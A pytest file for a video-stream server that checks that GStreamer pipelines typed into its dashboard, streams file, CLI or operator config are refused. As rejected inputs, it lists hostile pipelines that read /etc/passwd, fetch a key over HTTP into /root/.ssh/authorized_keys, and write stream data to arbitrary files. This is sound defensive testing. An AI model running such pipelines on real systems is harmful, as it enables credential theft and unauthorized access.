"""Streams are data, never programs: every pipeline the security review used (reading /etc/passwd, writing through
a tee into a file, binding udp/6001 outside EDS_RTP_PORTS, fetching over HTTP into ~/.ssh, multifilesink) is
refused from the Streams page (its core function and the editor in Streamlit's AppTest), from a streams file the
`streams` commands read, and from `receive`; the GStreamer receive path comes from the program's own pipeline
(`decoder=jetson`) or an operator's pipeline named in the server's own file, checked element by element."""
from __future__ import annotations

import json
import os
import re

import pytest
from streamlit.testing.v1 import AppTest

from core.cli import main
from core.config import REPO_ROOT, load_settings
from core.errors import UserError
from core.gst.receive import RECEIVE_ELEMENTS, check_receive_pipeline
from core.stream.configured import InvalidStreams, StreamEntry, save_streams, stream_problems, streams_file
from core.stream.operator_pipelines import operator_pipeline, pipelines_file
from core.stream.pipelines import receive_pipeline

PORTS = "5000-5009"
CAPS = '"application/x-rtp,media=video,clock-rate=90000,encoding-name=H265,payload=96"'
DECODE = "rtpjitterbuffer latency=50 ! rtph265depay ! h265parse ! avdec_h265 ! videoconvert ! video/x-raw,format=BGR"
# (pipeline, what the receive-chain check says about it)
REVIEW_PIPELINES = [
    ("filesrc location=/etc/passwd ! h265parse ! avdec_h265 ! appsink", "filesrc is not an element"),
    (f"udpsrc port=5000 caps={CAPS} ! tee ! filesink location=../somewhere/x", "tee is not an element"),
    (f"udpsrc port=6001 caps={CAPS} ! {DECODE} ! appsink name=sink", "port 6001 is not one this server may bind"),
    ("souphttpsrc location=http://192.0.2.1/key ! filesink location=/root/.ssh/authorized_keys",
     "souphttpsrc is not an element"),
    (f"udpsrc port=5000 caps={CAPS} ! {DECODE} ! multifilesink location=frame-%05d.bgr",
     "multifilesink is not an element"),
    (f"udpsrc port=5000 caps={CAPS} ! {DECODE} ! appsink location=/tmp/x", "appsink may not set location="),
    (f"udpsrc port=5000 uri=udp://0.0.0.0:6001 caps={CAPS} ! {DECODE} ! appsink", "udpsrc may not set uri="),
    (f"udpsrc port=5000 ! queue2 temp-template=/tmp/x ! {DECODE} ! appsink", "queue2 is not an element"),
    (f"udpsrc port=5000 caps={CAPS} ! {DECODE} ! appsink name=sink udpsrc port=5001 ! appsink", "one chain"),
    (f"udpsrc port=5000 caps={CAPS} ! {DECODE} ! appsink name=sink t. ! filesink location=x",
     "a link to a named element"),
    ("file:///etc/passwd ! h265parse ! avdec_h265 ! appsink", "a URI, for which GStreamer would pick"),
    (f"udpsrc port=5000 @preset=mine caps={CAPS} ! {DECODE} ! appsink", "udpsrc may not set @preset="),
    (f"udpsrc port=5000 caps={CAPS} name=u u.src ! {DECODE} ! appsink", "a link to a named element"),
    (f"udpsrc port=5000 caps={CAPS} :{DECODE} ! appsink", "name no pads"),
    (f"udpsrc caps={CAPS} ! {DECODE} ! appsink", "must name its port"),
    (f"-e udpsrc port=5000 ! {DECODE} ! appsink", "options such as -e"),
    (f"udpsrc port=5000 ! {DECODE} ! appsink ! appsink", "ends with its one appsink"),
    ("appsink ! udpsrc port=5000", "starts with its one udpsrc"),
    (f'udpsrc port=5000 ! "(" {DECODE} ! appsink ")"', "a bin"),
    (f"udpsrc port=5000 ! ( {DECODE} ! appsink )", "quote '\\('"),
]


@pytest.fixture
def settings(monkeypatch, isolated_data_root):
    monkeypatch.setenv("EDS_RTP_PORTS", PORTS)
    return load_settings()


@pytest.mark.parametrize(("pipeline", "why"), REVIEW_PIPELINES)
def test_the_receive_chain_check_refuses_each_pipeline_of_the_review(pipeline: str, why: str) -> None:
    with pytest.raises(UserError, match=why) as caught:
        check_receive_pipeline(pipeline, udp_ports=range(5000, 5010))
    assert "\n" not in str(caught.value)


@pytest.mark.parametrize("jetson", [True, False])
@pytest.mark.parametrize("codec", ["h265", "h264"])
def test_the_programs_own_receive_pipelines_pass_the_check(jetson: bool, codec: str) -> None:
    plan = check_receive_pipeline(receive_pipeline(port=5004, codec=codec, jetson=jetson, address="0.0.0.0"),
                                  udp_ports=[5004])
    assert plan.port == 5004 and plan.steps[0].factory == "udpsrc" and plan.steps[-1].factory == "appsink"
    assert {step.factory for step in plan.steps if step.factory} <= set(RECEIVE_ELEMENTS)
    assert ("address", "0.0.0.0") in plan.steps[0].properties


@pytest.mark.parametrize(("pipeline", "_why"), REVIEW_PIPELINES)
def test_the_streams_page_core_function_refuses_each_as_a_gst_uri(settings, pipeline: str, _why: str) -> None:
    entries = [StreamEntry("Evil", f"gst:{pipeline}")]
    assert any("never a pipeline" in problem for problem in stream_problems(settings, entries))
    with pytest.raises(InvalidStreams, match="never a pipeline"):
        save_streams(settings, entries)
    assert not streams_file(settings).exists()


def _editor_page() -> None:
    from dashboard.components.stream_listen import streams_editor_section

    streams_editor_section()


@pytest.mark.timeout(60)
def test_the_streams_editor_refuses_every_pipeline_typed_into_it(settings) -> None:
    from dashboard import resources

    resources.settings.clear()  # the settings of this test's data root and ports
    app = AppTest.from_function(_editor_page, default_timeout=30).run()
    assert not app.exception
    typed = [{"name": f"Evil {number}", "uri": f"gst:{pipeline}"}
             for number, (pipeline, _) in enumerate(REVIEW_PIPELINES)]
    app.session_state["streams_editor_0"] = {"edited_rows": {}, "added_rows": typed, "deleted_rows": []}
    app.button(key="streams_save").click().run()
    errors = [error.value for error in app.error]
    assert not app.exception and len(errors) == len(REVIEW_PIPELINES) and not app.success
    assert all("never a pipeline" in error for error in errors)
    assert not streams_file(settings).exists()


def _write_streams_file(settings, *uris: str) -> None:
    tables = [f"[[stream]]\nname = {f'Evil {n}'!r}\nuri = {uri!r}\n" for n, uri in enumerate(uris)]
    streams_file(settings).write_text("\n".join(tables), encoding="utf-8")


@pytest.mark.parametrize("command", [["streams", "list"], ["streams", "listen", "--seconds", "0.1"]])
def test_the_streams_commands_refuse_a_streams_file_holding_a_pipeline(settings, capsys, command) -> None:
    for pipeline, _ in REVIEW_PIPELINES[:5]:
        _write_streams_file(settings, "demo:", f"gst:{pipeline}")
        assert main(command) == 2
        error = capsys.readouterr().err
        assert error.startswith("error: ") and "never a pipeline" in error and error.count("\n") == 1


MALFORMED_URIS = ["rtp://[::1", "rtp://[::1]:x?codec=h265", "rtsp://[::1/cam", "demo:?width=4000&height=4000"]


@pytest.mark.parametrize("uri", [f"gst:{pipeline}" for pipeline, _ in REVIEW_PIPELINES[:5]] + MALFORMED_URIS)
def test_receive_refuses_pipelines_and_malformed_uris_in_one_line(capsys, uri: str) -> None:
    assert main(["receive", uri, "--duration", "1"]) == 2
    error = capsys.readouterr().err
    assert error.startswith("error: ") and error.count("\n") == 1 and "Traceback" not in error


OPERATOR_FILE = f"""[[pipeline]]
name = "yard-nvdec"
pipeline = '''udpsrc port=5002 caps={CAPS} ! {DECODE} ! appsink name=sink max-buffers=2 drop=true sync=false'''

[[pipeline]]
name = "sneaky"
pipeline = "udpsrc port=5003 ! tee ! filesink location=/tmp/x"
"""


def test_an_operators_pipeline_is_chosen_by_name_and_checked(settings, capsys) -> None:
    path = pipelines_file(settings)
    path.write_text(OPERATOR_FILE, encoding="utf-8")
    path.chmod(0o644)
    assert operator_pipeline(path, "yard-nvdec", settings.rtp_ports).port == 5002
    with pytest.raises(UserError, match="pipeline 'sneaky' of .*tee is not an element"):
        operator_pipeline(path, "sneaky", settings.rtp_ports)
    with pytest.raises(UserError, match="port 5002 is not one"):
        operator_pipeline(path, "yard-nvdec", [5000])
    with pytest.raises(UserError, match=r"no receive pipeline named 'gate' .*configured: sneaky, yard-nvdec"):
        operator_pipeline(path, "gate", settings.rtp_ports)
    save_streams(settings, [StreamEntry("Yard", "gst:yard-nvdec"), StreamEntry("Jetson", "rtp://0.0.0.0:5000")])
    problems = stream_problems(settings, [StreamEntry("Yard", "gst:yard-nvdec"), StreamEntry("Other", "gst:sneaky"),
                                          StreamEntry("Jetson", "rtp://0.0.0.0:5002?codec=h265&decoder=jetson")])
    assert any("tee is not an element" in problem for problem in problems)
    assert any("both use UDP port 5002" in problem for problem in problems)
    assert main(["streams", "list", "--json"]) == 0
    listed = json.loads(capsys.readouterr().out)["streams"]
    assert [(stream["uri"], stream["udp_port"]) for stream in listed] == [("gst:yard-nvdec", 5002),
                                                                          ("rtp://0.0.0.0:5000", 5000)]


def test_an_operators_file_others_may_write_is_refused(settings) -> None:
    path = pipelines_file(settings)
    path.write_text(OPERATOR_FILE, encoding="utf-8")
    os.chmod(path, 0o664)
    with pytest.raises(UserError, match="chmod go-w"):
        operator_pipeline(path, "yard-nvdec", settings.rtp_ports)
    assert any("chmod go-w" in problem for problem in stream_problems(settings, [StreamEntry("Y", "gst:yard-nvdec")]))


@pytest.mark.parametrize(("uri", "problem"), [
    ("rtp://0.0.0.0:5001?codec=h265&decoder=jetson", None),
    ("rtp://0.0.0.0:6001?codec=h265&decoder=jetson", "UDP port 6001 is not one this server may bind"),
    ("rtp://0.0.0.0:5001?decoder=jetson", "needs the codec named"),
    ("demo:?width=4000&height=4000", "EDS_MAX_DECODED_PIXELS"),
    ("demo:?fps=240", "EDS_MAX_FPS"),
])
def test_stream_entries_choose_the_programs_receive_pipeline_within_the_caps(settings, uri, problem) -> None:
    problems = stream_problems(settings, [StreamEntry("Cam", uri)])
    assert problems == [] if problem is None else any(problem in line for line in problems)


def test_the_readmes_operator_pipeline_example_passes_its_checks(settings) -> None:
    readme = (REPO_ROOT / "README.md").read_text(encoding="utf-8")
    example = re.search(r"```toml\n(\[\[pipeline\]\].*?)```", readme, flags=re.DOTALL)
    assert example, "the README no longer shows an example of DATA_ROOT/gst-pipelines.toml"
    path = pipelines_file(settings)
    path.write_text(example.group(1), encoding="utf-8")
    path.chmod(0o600)
    plan = operator_pipeline(path, "yard-nvdec", settings.rtp_ports)
    assert plan.port == 5002 and [step.factory for step in plan.steps][-1] == "appsink"
